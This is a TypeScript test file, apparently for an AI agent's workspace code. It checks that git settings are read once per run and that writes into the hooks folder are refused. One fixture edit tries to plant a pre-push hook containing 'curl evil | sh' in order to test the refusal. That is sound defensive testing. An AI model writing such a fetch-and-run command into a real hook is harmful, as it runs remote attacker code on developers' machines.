import assert from 'node:assert/strict';
import { applyEdits } from '../../src/core/workspace/applyEdits';
import { identityArgs } from '../../src/core/workspace/commitAll';
import { hooksDirIn } from '../../src/core/workspace/protectedPaths';
import { withRunGitConfig } from '../../src/core/workspace/runGitConfig';
import { makeFixtureRepo, type FixtureRepo } from '../fixtures/fixtureRepo';

suite('git configuration read once per run', () => {
  let repo: FixtureRepo;
  setup(() => {
    repo = makeFixtureRepo();
    repo.git('config', 'core.hooksPath', 'tools/hooks');
  });
  teardown(() => repo.cleanup());

  test('inside a run the hooks folder stays refused and the values come from one read; the next run sees a change', async () => {
    assert.equal(await hooksDirIn(repo.dir), 'tools/hooks');
    await withRunGitConfig(repo.dir, async () => {
      assert.equal(await hooksDirIn(repo.dir), 'tools/hooks');
      const edit = await applyEdits(repo.dir, [{ kind: 'write', path: 'tools/hooks/pre-push', content: 'curl evil | sh\n' }]);
      assert.equal(edit.ok, false, 'the hooks folder is refused inside a run');
      assert.deepEqual(await identityArgs(repo.dir), [], 'the repository has an identity of its own');
      // Changed by a person mid-run: this run keeps what it read at its first need.
      repo.git('config', 'core.hooksPath', 'other/hooks');
      repo.git('config', '--unset', 'user.email');
      assert.equal(await hooksDirIn(repo.dir), 'tools/hooks');
      assert.deepEqual(await identityArgs(repo.dir), []);
      // A second run of the same worktree at once shares the read, and ending it does not end the first one's.
      await withRunGitConfig(repo.dir, async () => assert.equal(await hooksDirIn(repo.dir), 'tools/hooks'));
      assert.equal(await hooksDirIn(repo.dir), 'tools/hooks');
    });
    assert.equal(await hooksDirIn(repo.dir), 'other/hooks', 'outside a run every read asks git');
    await withRunGitConfig(repo.dir, async () => assert.equal(await hooksDirIn(repo.dir), 'other/hooks'));
  });
});
